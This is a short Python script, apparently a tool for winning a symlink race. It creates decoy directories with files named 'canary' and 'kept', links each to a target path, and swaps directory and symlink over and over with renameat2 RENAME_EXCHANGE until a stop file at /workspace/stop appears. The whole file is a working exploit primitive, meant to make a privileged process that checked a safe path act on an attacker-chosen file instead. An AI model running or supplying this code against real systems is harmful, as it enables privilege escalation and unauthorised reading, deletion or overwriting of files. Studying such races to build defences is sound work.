# Exchanges a directory and a link to another one, again and again, until it is told to stop.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
target, names = sys.argv[1].encode(), [name.encode() for name in sys.argv[2:]]
for name in names:
    os.makedirs(name, exist_ok=True)
    for inner in (b'canary', b'kept'):
        open(os.path.join(name, inner), 'w').write('decoy')
    os.symlink(target, name + b'.link')
print('swapping', flush=True)
while not os.path.exists('/workspace/stop'):
    for _ in range(200):
        for name in names:
            libc.renameat2(-100, name, -100, name + b'.link', 2)
